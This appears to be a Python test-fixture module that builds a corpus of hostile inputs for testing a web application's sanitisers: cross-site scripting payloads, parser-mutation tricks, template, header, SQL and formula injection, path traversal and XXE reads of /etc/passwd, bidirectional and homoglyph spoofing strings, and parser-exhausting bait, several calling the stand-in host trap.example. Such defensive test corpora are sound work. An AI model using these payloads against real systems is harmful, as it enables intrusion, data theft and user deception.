"""What people type who mean harm, each under the name of its trick; and what is typed to keep a machine busy.

Whatever runs says which it was: it sets `pwned` in its window. Whatever asks for something asks TRAP, with its name.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

TRAP = "trap.example"

# RUN is a statement without quotes or spaces, ADDRESS an address without a scheme.
_TAGS = {
    "script": "<script>RUN</script>",
    "script-in-odd-case": "<ScRiPt/x>RUN</sCrIpT >",
    "script-in-script": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script-from-elsewhere": "<script src=ADDRESS></script>",
    "picture-that-fails": "<img src=ADDRESS onerror=RUN>",
    "picture-in-backticks": "<img src=`ADDRESS`onerror=RUN>",
    "picture-by-srcset": '<img srcset="ADDRESS 2x" onerror="RUN">',
    "handler-after-slash": "<svg/onload=RUN>",
    "handler-of-body": "<body onload=RUN>",
    "handler-of-details": "<details open ontoggle=RUN>x</details>",
    "handler-of-focus": "<input autofocus onfocus=RUN>",
    "handler-of-source": "<video><source onerror=RUN></video>",
    "handler-of-animation": "<p style=animation:spin onanimationstart=RUN>x</p>",
    "handler-of-popover": "<xss id=p popover onbeforetoggle=RUN>x</xss><button popovertarget=p>x</button>",
    "out-of-double-quotes": '"><img src=x onerror=RUN>',
    "out-of-single-quotes": "'><img src=x onerror=RUN>",
    "attribute-in-double-quotes": '" autofocus tabindex=0 onfocus=RUN x="',
    "attribute-in-single-quotes": "' autofocus tabindex=0 onfocus=RUN x='",
    "iframe": "<iframe src=ADDRESS></iframe>",
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "object": "<object data=ADDRESS></object><embed src=ADDRESS>",
    "meta-refresh": '<meta http-equiv=refresh content="0;url=ADDRESS">',
    "base": "<base href=ADDRESS/>",
    "stylesheet": "<link rel=stylesheet href=ADDRESS>",
    "style-import": "<style>@import 'ADDRESS';</style>",
    "style-expression": '<p style="width:expression(RUN);background:url(ADDRESS)">x</p>',
    "form-elsewhere": "<form action=ADDRESS><button formaction=javascript:RUN>x</button></form>",
    "our-own-attributes": '<p hx-get="ADDRESS" hx-trigger=load data-src="ADDRESS" class=embed id=main>x</p>',
    "handler-of-a-library": '<p x-init="RUN" x-on:click="RUN" hx-on::load="RUN" @click="RUN">x</p>',
}
_ADDRESSES = {
    "javascript": '<a href="javascript:RUN">x</a>',
    "javascript-with-tab": '<a href="java\tscript:RUN">x</a>',
    "javascript-with-newline": '<a href="java&#10;script:RUN">x</a>',
    "javascript-in-entities": '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58RUN">x</a>',
    "javascript-in-names": '<a href="jav&Tab;ascript&colon;RUN">x</a>',
    "javascript-after-control": '<a href="&#1;&#14; javascript:RUN">x</a>',
    "javascript-zero-width": '<a href="java\u200bscript:RUN">x</a>',
    "javascript-zero-width-entity": '<a href="java&#x200b;scr&shy;ipt&#x2060;:RUN">x</a>',
    "javascript-wide-letters": '<a href="\uff4aavascript\uff1aRUN">x</a>',
    "javascript-long-s": '<a href="java\u017fcript:RUN">x</a>',
    "javascript-as-host": '<a href="javascript://https://ours.example/%0aRUN">x</a>',
    "vbscript": '<a href="VBScript:RUN">x</a>',
    "data-html": '<a href="data:text/html,<script>opener.RUN</script>">x</a>',
    "data-svg": '<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/>\'>',
    "ping": "<a href=/ ping=ADDRESS>x</a>",
    "link-in-svg": "<svg><a xlink:href=javascript:RUN><text y=9>x</text></a></svg>",
    "animated-link": "<svg><a id=q><animate attributeName=href values=javascript:RUN /><text y=9>x</text></a></svg>",
    "used-svg": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='RUN'/>#x\"/></svg>",
    "markdown-javascript": "[x](javascript:RUN)",
    "markdown-entities": "[x](<java&#x0A;script&colon;RUN>)",
    "markdown-autolink": "<javascript:RUN> <JavaScript://ours.example/%0aRUN>",
    "markdown-picture": "![x](https:ADDRESS) ![x][1]\n\n[1]: https:ADDRESS",
    "markdown-quotes": '[x](https://a.example/"onmouseover=RUN//) https://a.example/"onmouseover="RUN',
    "markdown-data": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "embed-of-ours": '<figure data-embed="javascript:RUN" data-title="<img src=x onerror=RUN>"></figure>',
    "note-of-ours": '<p>x<sup data-note="</li></ol><img src=x onerror=RUN>"></sup></p>',
    "caption-of-ours": '<table data-caption="<script>RUN</script>"><tr><td colspan="2 onload=RUN">x</td></tr></table>',
}
_MUTATIONS = {
    "noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>">x</p></noscript>',
    "template": "<template><img src=x onerror=RUN></template><template shadowrootmode=open><img src=x onerror=RUN>",
    "glyph-in-a-table": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">',
    "style-in-svg": '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    "title-in-svg": '<svg><title><style><i title="</style><img src=x onerror=RUN>">',
    "foreign-object": "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "annotation": '<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml>',
    "two-forms": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "comment-that-ends-early": "<!--><img src=x onerror=RUN>-->",
    "comment-with-a-bang": "<!--x--!><img src=x onerror=RUN>-->",
    "comment-never-ended": "x <!-- <p title='--><img src=x onerror=RUN>'",
    "cdata": "<svg><![CDATA[</svg><img src=x onerror=RUN>]]>",
    "processing": "<?x ><img src=x onerror=RUN>?>",
    "out-of-a-table": "<table><img src=x onerror=RUN><td><a href=javascript:RUN>x</a></table>",
    "style-in-select": "<select><style></select><img src=x onerror=RUN></style>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "link-in-a-link": '<a href=/><table><a href="javascript:RUN">x',
    "escaped-once": "&lt;img src=x onerror=RUN&gt;",
    "escaped-twice": "&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;",
    "percent": "%3Cscript%3ERUN%3C/script%3E",
    "utf-7": "+ADw-script+AD4-RUN+ADw-/script+AD4-",
}
_ENDINGS = {
    "end-of-title": "</title><script>RUN</script>",
    "end-of-textarea": "</textarea><script>RUN</script>",
    "end-of-script": "</script><script>RUN</script>",
    "script-in-comment-in-script": "<!--<script>",
    "end-of-cdata": "]]><script>RUN</script>",
    "end-of-string": '";RUN//\';RUN//\\";RUN//`${RUN}`',
    "line-separators": "x\u2028RUN\u2029RUN",
    "entity-of-a-file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "templates": "{{ 7*7 }}{% debug %}{% load x %}${7*7}#{7*7}<%= 7*7 %>{0.__class__}%(x)s%n",
    "header": "x\r\nSet-Cookie: pwned=1\r\nLocation: https:ADDRESS\r\n\r\n<script>RUN</script>",
    "mail-header": "x\nBcc: pwned@trap.example\n\nx",
    "of-a-query": "x' OR 1=1; -- %_\\ * NEAR( ^ :",
    "path": "../../../etc/passwd\\..\\..",
    "formula": '=HYPERLINK("https:ADDRESS","x")',
    "formula-after-tab": "\t=1+1",
    "formula-of-a-plus": "+1+cmd|' /C calc'!A0",
}
_EYES = {
    "override": "harmless\u202egnp.exe\u202c",
    "embedding": "\u202aone\u202btwo\u202c\u202dthree\u202c",
    "isolates": "\u2066one\u2069\u2067two\u2069\u2068three\u2069",
    "marks-of-direction": "one\u200etwo\u200fthree\u061cfour",
    "zero-width": "in\u200bvis\u2060ible\ufeff\u00ad",
    "controls": "be\x07ll \x1b[31mred\x1b[0m \x7f\x85\x9b",
    "host-of-another-alphabet": "https://p\u0430ypal.example/ [bank](https://b\u0430nk.example/)",
    "long-word": "w" * 190,
    "piled-marks": "Z" + "\u0301\u0316\u0334" * 15 + "a" + "\u0489" * 15,
    "fillers": "\u3164\u115f\u2800",
    "private-and-unassigned": "\ue000\ufffe\U000f0000\ufff9a\ufffab\ufffb\U000e0041",
}
CORPUS = {
    name: trick.replace("RUN", f"pwned=/{name}/").replace("ADDRESS", f"//{TRAP}/{name}")
    for tricks in (_TAGS, _ADDRESSES, _MUTATIONS, _ENDINGS, _EYES)
    for name, trick in tricks.items()
}
# Those in which every sign stands that means anything to anybody.
SHARP = [
    CORPUS[name]
    for name in (
        *("script", "out-of-double-quotes", "out-of-single-quotes", "javascript-zero-width", "markdown-javascript"),
        *("end-of-textarea", "end-of-script", "end-of-string", "templates", "header", "formula", "of-a-query", "path"),
        *("override", "isolates", "marks-of-direction", "zero-width", "controls", "piled-marks"),
        *("line-separators", "private-and-unassigned"),
    )
]
# No door takes these: Django and DRF refuse them, whatever the field.
NULLS = ("<scr\0ipt>pwned=/null/</scr\0ipt><img src=x one\0rror=pwned=/null/>", "x\0")
# A program writes these as escapes, "\ud800"; no form can send them.
LONE_SURROGATES = ("\ud800", "x\udfffy", "\udc00\ud800")
# What is repeated to keep a parser busy. What it is followed by keeps it from being what it seems to become.
BAIT = {
    "letters": ("a", "!"),
    "spaces": (" ", "x"),
    "marks": ("\u0301", ""),
    "brackets": ("[", ""),
    "empty-links": ("[](", ""),
    "links-in-links": ("[a](b", ""),
    "pictures": ("![", "]"),
    "stars": ("*", "a"),
    "stars-and-letters": ("**a *", ""),
    "underscores": ("_a__", ""),
    "quotes": ("> ", "a"),
    "lists": ("- ", "a"),
    "backticks": ("`a``", ""),
    "backslashes": ("\\", ""),
    "less-than": ("<", ""),
    "comments": ("<!--", ""),
    "declarations": ("<!A ", ""),
    "entities": ("&#0", ""),
    "hosts": ("www.a.", ""),
    "schemes": ("http://", ""),
    "mailboxes": ("a@", ""),
    "dots": ("a.", " "),
    "parentheses": ("https://a.example/(", ""),
    "tags-open": ("<p>", ""),
    "tags-nested": ("<b>", "x"),
    "items": ("<li><p>", ""),
    "cells": ("<td>", ""),
    "tables": ("<table>", ""),
    "figures": ('<figure data-embed="', ""),
    "notes": ('<sup data-note="x', ""),
    "attributes": ("<p a=", ">"),
    "or": ("or ", "a"),
    "minus": ("-", "a"),
    "double-quotes": ('"a ', ""),
    "lines": ("a\n\n\n", ""),
}


def bait(name: str, length: int) -> str:
    """At most so many characters."""
    unit, end = BAIT[name]
    return unit * ((length - len(end)) // len(unit)) + end


def packed(length: int, tricks: Iterable[str] = CORPUS.values()) -> Iterator[str]:
    """All of them, as many in a line as fit into `length` characters; of what is longer by itself, its beginning."""
    line = ""
    for trick in tricks:
        if line and len(line) + 1 + len(trick) > length:
            yield line
            line = ""
        line = f"{line} {trick}".strip(" ")[:length]
    yield line
